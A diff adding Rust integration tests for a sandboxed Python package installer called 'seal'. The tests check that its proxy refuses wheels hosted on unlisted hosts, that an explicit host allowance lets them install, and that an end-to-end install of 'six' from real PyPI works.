+// 7. The proxy allowlist
+
+#[test]
+fn wheel_linked_on_another_host_is_refused_by_the_proxy() {
+    each_variant(|v| {
+        let env = TestEnv::new(v, "allow");
+        let index = PyIndex::start(&env.dir.join("index"));
+        let other = PyIndex::start(&env.dir.join("other"));
+        benign(&index);
+        env.install(&index.url(), &["alpha"]).expect_success();
+        let env_before = snapshot(&env.env_dir());
+
+        // delta's page (on the index) links its wheel on another host name / another port.
+        let delta = other.wheel(&WheelSpec::new("delta", "1.0").file("delta.py", "X = 1\n"));
+        let eps = other.wheel(&WheelSpec::new("epsilon", "1.0").file("epsilon.py", "X = 1\n"));
+        index.page(
+            "delta",
+            &[(
+                format!("http://localhost:{}/files/{}", other.port, delta.file),
+                &delta,
+            )],
+        );
+        index.page(
+            "epsilon",
+            &[(
+                format!("http://127.0.0.1:{}/files/{}", other.port, eps.file),
+                &eps,
+            )],
+        );
+
+        for (pkg, host) in [("delta", "localhost"), ("epsilon", "127.0.0.1")] {
+            let out = env.install(&index.url(), &[pkg]);
+            out.expect_failure();
+            let target = format!("{host}:{}", other.port);
+            assert!(
+                out.stderr
+                    .lines()
+                    .any(|l| l.starts_with("seal: proxy refused ") && l.contains(&target)),
+                "{pkg}: no `seal: proxy refused ... {target}` line\n{}",
+                out.describe()
+            );
+            assert_eq!(
+                other.connections(),
+                0,
+                "{pkg}: the other host was reached:\n{}",
+                other.describe_requests()
+            );
+            assert!(index.hits(&format!("/simple/{pkg}/")) >= 1);
+            assert_same_snapshot(&env_before, &snapshot(&env.env_dir()), ".seal/env");
+            assert_no_tmp_install(&env, pkg);
+        }
+        assert_eq!(sealed_alpha_version(&env), "1.0");
+
+        // Positive control: allowing that host:port explicitly makes the same install work.
+        let allow = format!("127.0.0.1:{}", other.port);
+        let out = env.install(&index.url(), &["--allow-host", &allow, "epsilon"]);
+        out.expect_success();
+        assert!(other.hits(&format!("/files/{}", eps.file)) >= 1);
+        let out = env.run(&["python", "-c", "import epsilon; print('EPS', epsilon.X)"]);
+        out.expect_success();
+        assert!(out.stdout.contains("EPS 1"), "{}", out.describe());
+    });
+}
+
+// ---------------------------------------------------------------------------------------------
+// 8. The real PyPI, through the proxy
+
+#[test]
+fn real_pypi_end_to_end() {
+    if std::env::var("SEAL_TEST_NO_PYPI").as_deref() == Ok("1") {
+        eprintln!(
+            "\n!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!\n\
+             !!! real_pypi_end_to_end SKIPPED: SEAL_TEST_NO_PYPI=1\n\
+             !!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!\n"
+        );
+        return;
+    }
+    each_variant(|v| {
+        let mut env = TestEnv::new(v, "pypi");
+        // A proxy or CA bundle this machine needs to reach PyPI is seal's business to honour.
+        for k in [
+            "HTTPS_PROXY",
+            "https_proxy",
+            "HTTP_PROXY",
+            "http_proxy",
+            "NO_PROXY",
+            "no_proxy",
+            "SSL_CERT_FILE",
+            "REQUESTS_CA_BUNDLE",
+            "PIP_CERT",
+        ] {
+            if let Ok(val) = std::env::var(k) {
+                env.set_env(k, &val);
+            }
+        }
+        let out = env
+            .seal(&["install", "--python", PYTHON, "--lock", "six"])
+            .output();
+        assert_eq!(
+            out.code,
+            0,
+            "installing six from the real PyPI failed (is PyPI reachable? set SEAL_TEST_NO_PYPI=1 \
+             to skip)\n{}",
+            out.describe()
+        );
+        env.assert_no_canary(&out);
+        let (_, pkgs) = read_lock(&env.project);
+        assert!(
+            pkgs.iter()
+                .any(|(n, _, f, s)| n == "six" && f.ends_with(".whl") && s.len() == 64),
+            "seal.lock: {pkgs:?}"
+        );
+        let out = env.run(&[
+            "python",
+            "-c",
+            "import six, sys; print('SIX', six.__version__, sys.prefix)",
+        ]);
+        out.expect_success();
+        assert!(
+            out.stdout
+                .lines()
+                .any(|l| l.starts_with("SIX ") && l.ends_with(" /seal/env")),
+            "{}",
+            out.describe()
+        );
+    });
+}
